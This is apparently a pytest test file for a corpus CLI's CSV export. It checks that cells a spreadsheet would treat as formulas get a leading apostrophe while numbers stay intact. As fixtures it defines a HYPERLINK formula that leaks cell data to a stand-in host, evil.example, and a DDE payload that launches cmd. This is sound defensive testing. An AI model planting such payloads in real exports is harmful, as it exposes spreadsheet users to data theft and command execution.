"""#17.6: CSV cells a spreadsheet would run as formulas (= + - @, tab or CR first) get a ' in
front; numbers stay numbers; --raw-csv writes every cell as it is, and is refused for other
formats."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from corpuscli.render.spreadsheet import FORMULA_START, NUMBER, defuse_formulas, defused

from .generated import articles

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def formulas(tmp_path):
    """Three articles whose title, source and extra columns start formulas, and numbers."""
    rows = articles(3)
    rows[0].update(title=HYPERLINK, source="@SUM(A1:A9)", note="\t=1+1", score=-5)
    rows[1].update(source=DDE, note="+A1", score=3)
    rows[2].update(note="-5", score=-7.5)  # a number written as text stays as it is
    path = tmp_path / "formulas.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_defused_and_numbers_kept(corpus, formulas):
    result = corpus("load", str(formulas), "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = _cells(result.stdout)
    assert rows[0]["title"] == "'" + HYPERLINK
    assert rows[0]["source"] == "'@SUM(A1:A9)"
    assert rows[1]["source"] == "'" + DDE
    assert [r["note"] for r in rows] == ["'\t=1+1", "'+A1", "-5"]
    assert [r["score"] for r in rows] == ["-5.0", "3.0", "-7.5"]  # a numeric column
    assert "5 CSV cells began with = + - @" in result.stderr and "--raw-csv" in result.stderr


def test_a_csv_file_and_a_grouped_table_are_defused_too(corpus, formulas, tmp_path):
    out = tmp_path / "by_source.csv"
    assert corpus("stats", str(formulas), "--by", "source", "-o", str(out)).exit_code == 0
    sources = [r["source"] for r in _cells(out.read_text(encoding="utf-8"))]
    assert "'@SUM(A1:A9)" in sources and "'" + DDE in sources


def test_a_carriage_return_or_a_tab_first_is_defused():
    assert (defused("\r=1+1"), defused("\t@x"), defused("+44 20 7946 0000")) == (
        "'\r=1+1",
        "'\t@x",
        "'+44 20 7946 0000",
    )
    assert (defused("-12.5"), defused("+1e6"), defused("1,000"), defused("a=b")) == (
        "-12.5",
        "+1e6",
        "1,000",
        "a=b",
    )


def test_raw_csv_writes_the_cells_as_they_are(corpus, formulas):
    result = corpus("load", str(formulas), "--format", "csv", "--raw-csv")
    assert result.exit_code == 0, result.stderr
    rows = _cells(result.stdout)
    assert (rows[0]["title"], rows[1]["source"]) == (HYPERLINK, DDE)
    assert "CSV cell" not in result.stderr


@pytest.mark.parametrize("fmt", ["tsv", "jsonl", "md"])
def test_raw_csv_is_refused_for_other_formats(corpus, formulas, fmt):
    result = corpus("load", str(formulas), "--format", fmt, "--raw-csv")
    assert result.exit_code == 2
    assert f"--raw-csv is for CSV output, and this run writes {fmt}" in result.stderr


def test_other_formats_keep_the_values(corpus, formulas):
    rows = [
        json.loads(line)
        for line in corpus("load", str(formulas), "-f", "jsonl").stdout.splitlines()
    ]
    assert rows[0]["title"] == HYPERLINK


@given(st.lists(st.text(max_size=12), max_size=6))
def test_no_defused_text_cell_starts_a_formula(values):
    frame = pd.DataFrame({"text": values, "number": range(len(values))}, dtype=object)
    frame["number"] = frame["number"].astype("int64")
    out, changed = defuse_formulas(frame)
    for before, after in zip(values, out["text"], strict=True):
        assert after == defused(before)
        assert not FORMULA_START.match(after) or NUMBER.fullmatch(after)
    assert changed == sum(
        after != before for before, after in zip(values, out["text"], strict=True)
    )
    assert out["number"].tolist() == list(range(len(values)))
